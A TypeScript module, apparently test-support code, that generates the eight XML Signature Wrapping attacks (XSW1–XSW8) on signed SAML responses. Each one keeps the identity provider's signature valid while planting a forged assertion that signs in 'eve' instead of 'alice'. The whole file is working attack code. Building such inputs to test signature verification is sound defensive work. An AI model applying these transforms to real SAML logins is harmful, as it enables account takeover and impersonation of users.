import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * Attacks on signed SAML responses, made by moving and copying signed
 * elements as the XML Signature Wrapping catalogue describes (Somorovsky
 * et al., "On Breaking SAML", USENIX Security 2012; SAML Raider's
 * XSW1–XSW8). Each leaves the IdP's signature valid over the element it
 * references while a naive reader processes an attacker's copy.
 */
export type XswVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

const samlp = 'urn:oasis:names:tc:SAML:2.0:protocol';
const dsig = 'http://www.w3.org/2000/09/xmldsig#';

/** The attacker's change to an assertion: the person signed in becomes eve. */
export function makeEvil(assertion: Element): void {
  for (const el of elements(assertion)) {
    if (el.localName === 'NameID' || el.localName === 'AttributeValue') {
      if (el.textContent?.includes('alice@')) el.textContent = 'eve@x.test';
    }
  }
}

/** Applies one XSW variant to a signed response (XSW1–2: response signed; XSW3–8: assertion signed). */
export function xsw(variant: XswVariant, signedXml: string): string {
  return transform(signedXml, (doc, response) => {
    const assertion = childNamed(response, 'Assertion');
    const copyWithoutSignature = (el: Element) => {
      const copy = el.cloneNode(true) as Element;
      const signature = childNamed(copy, 'Signature', false);
      if (signature) copy.removeChild(signature);
      return copy;
    };
    switch (variant) {
      case 'XSW1':
      case 'XSW2': {
        // The signed Response, copied without its signature, hides inside (XSW1) or before (XSW2) the
        // signature; the outer Response gets a new ID and the attacker's assertion.
        const copy = copyWithoutSignature(response);
        const signature = childNamed(response, 'Signature');
        if (variant === 'XSW1') signature.appendChild(copy);
        else response.insertBefore(copy, signature);
        response.setAttribute('ID', '_evil_response');
        makeEvil(assertion);
        return;
      }
      case 'XSW3': {
        // An unsigned evil copy of the assertion goes before the signed one.
        const evil = copyWithoutSignature(assertion);
        evil.setAttribute('ID', '_evil_assertion');
        makeEvil(evil);
        response.insertBefore(evil, assertion);
        return;
      }
      case 'XSW4': {
        // The signed assertion moves inside an unsigned evil copy.
        const evil = copyWithoutSignature(assertion);
        evil.setAttribute('ID', '_evil_assertion');
        makeEvil(evil);
        response.replaceChild(evil, assertion);
        evil.appendChild(assertion);
        return;
      }
      case 'XSW5':
      case 'XSW6':
      case 'XSW8': {
        // The evil assertion keeps the signature; an unsigned copy of the original, which the signature
        // still matches, goes to the end of the response (XSW5), into the signature (XSW6), or into an
        // Object inside the signature (XSW8).
        const original = copyWithoutSignature(assertion);
        assertion.setAttribute('ID', '_evil_assertion');
        makeEvil(assertion);
        const signature = childNamed(assertion, 'Signature');
        if (variant === 'XSW5') response.appendChild(original);
        if (variant === 'XSW6') signature.appendChild(original);
        if (variant === 'XSW8') {
          const object = doc.createElementNS(dsig, 'ds:Object');
          object.appendChild(original);
          signature.appendChild(object);
        }
        return;
      }
      case 'XSW7': {
        // The signed assertion moves into an Extensions element; an unsigned evil copy takes its place.
        const evil = copyWithoutSignature(assertion);
        evil.setAttribute('ID', '_evil_assertion');
        makeEvil(evil);
        const extensions = doc.createElementNS(samlp, 'samlp:Extensions');
        response.replaceChild(evil, assertion);
        extensions.appendChild(assertion);
        response.insertBefore(extensions, evil);
        return;
      }
    }
  });
}

/** Parses, lets `change` edit the document, and serializes again. */
export function transform(xml: string, change: (doc: Document, root: Element) => void): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  if (!doc.documentElement) throw new Error('no root element');
  change(doc, doc.documentElement);
  return new XMLSerializer().serializeToString(doc);
}

/** Moves the assertion of another signed response into this one, after its own. */
export function addAssertionOf(xml: string, otherXml: string, localName = 'Assertion'): string {
  const other = new DOMParser().parseFromString(otherXml, 'text/xml').documentElement;
  if (!other) throw new Error('no root element');
  return transform(xml, (doc, response) => {
    response.appendChild(doc.importNode(childNamed(other, localName), true));
  });
}

/** The first child element with that local name. */
export function childNamed(parent: Element, localName: string): Element;
export function childNamed(parent: Element, localName: string, required: false): Element | undefined;
export function childNamed(parent: Element, localName: string, required = true): Element | undefined {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1 && (node as Element).localName === localName) return node as Element;
  }
  if (required) throw new Error(`no ${localName} in ${parent.localName}`);
  return undefined;
}

function elements(root: Element): Element[] {
  const out: Element[] = [root];
  for (let node = root.firstChild; node; node = node.nextSibling) {
    if (node.nodeType === 1) out.push(...elements(node as Element));
  }
  return out;
}
